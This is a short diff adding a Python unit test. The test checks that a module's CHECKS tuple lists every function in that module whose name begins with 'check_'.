+def test_checks_tuple_names_every_check() -> None:
+    assert {c.__name__ for c in system.CHECKS} == {
+        n for n in dir(system) if n.startswith("check_")}
